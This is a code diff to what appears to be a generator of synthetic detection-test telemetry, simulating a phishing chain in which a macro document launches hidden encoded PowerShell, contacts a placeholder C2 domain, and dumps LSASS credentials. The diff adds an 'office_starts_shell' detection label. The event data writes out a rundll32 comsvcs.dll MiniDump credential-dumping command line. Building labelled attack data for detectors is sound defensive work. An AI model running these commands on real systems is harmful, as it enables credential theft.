@@ -182,7 +182,7 @@ def _phishing(writer: _Writer, start: datetime) -> list[Line]:
     comsvcs = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Users\\Public\\l.dmp full"
     steps: tuple[tuple[int, str, Event, tuple[str, ...]], ...] = (
         (0, pc, _process(writer, user, _WORD, f'"{_WORD}" /n "C:\\Users\\{user}\\Downloads\\Lich truc Tet.docm"'), ()),
-        (9, pc, _process(writer, user, _PS, f"powershell.exe -nop -w hidden -enc {encoded}", _WORD), ("powershell_encoded_download",)),
+        (9, pc, _process(writer, user, _PS, f"powershell.exe -nop -w hidden -enc {encoded}", _WORD), ("powershell_encoded_download", "office_starts_shell")),
         (11, pc, _query(writer, _PS, C2_DOMAIN, C2_ADDRESS), ()),
         (12, pc, _connection(writer, user, _PS, HEALTH.inner(14), C2_ADDRESS, C2_DOMAIN), ()),
         (340, pc, _process(writer, user, _SYSTEM32 + "rundll32.exe", comsvcs, _PS), ("credential_dumping",)),
